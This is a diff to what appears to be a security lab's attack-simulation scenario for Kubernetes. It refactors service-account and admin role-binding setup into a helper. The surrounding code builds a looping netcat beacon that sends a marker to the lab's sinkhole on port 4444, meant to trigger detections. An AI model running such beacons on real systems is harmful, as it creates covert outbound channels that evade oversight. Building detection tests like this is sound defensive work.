@@ -7,6 +7,7 @@ import secrets
 
 from lab import Lab, Workload
 from scenarios.api import Expectation, Kind, Scenario
+from scenarios.kubernetes._accounts import bound_account
 
 DEPLOYER = "system:serviceaccount:platform:deployer"
 
@@ -33,15 +34,7 @@ class ImpersonatedDeployer(Scenario):
     )
 
     def detonate(self, lab: Lab) -> None:
-        lab.apply({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "platform"}})
-        lab.apply({"apiVersion": "v1", "kind": "ServiceAccount",
-                   "metadata": {"name": "deployer", "namespace": "platform"}})
-        lab.apply({
-            "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
-            "metadata": {"name": lab.name("platform-deployer")},
-            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "admin"},
-            "subjects": [{"kind": "ServiceAccount", "name": "deployer", "namespace": "platform"}],
-        })
+        bound_account(lab, "platform", "deployer", lab.name("platform-deployer"), token=False)
         marker = secrets.token_hex(6)
         beacon = f"while true; do echo {marker} | nc -w 2 -q 1 {lab.sinkhole.address} 4444; sleep 2; done"
         name = lab.name("metrics-relay")
